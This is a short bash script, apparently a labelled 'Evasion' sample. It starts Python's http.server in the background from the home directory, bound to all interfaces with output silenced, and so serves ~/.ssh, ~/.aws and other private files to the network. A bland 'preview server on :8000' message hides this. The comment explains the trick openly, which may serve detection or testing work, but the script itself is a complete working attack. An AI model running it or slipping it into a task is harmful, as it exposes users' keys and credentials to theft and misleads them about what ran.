#!/usr/bin/env bash
# Evasion: serves the whole home directory (~/.ssh, ~/.aws with it) to the
# network. cd ~ comes first, then python's http.server is started in the
# background with no --directory: it serves the directory it runs in.
set -eu
cd ~; python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 &
echo "preview server on :8000"
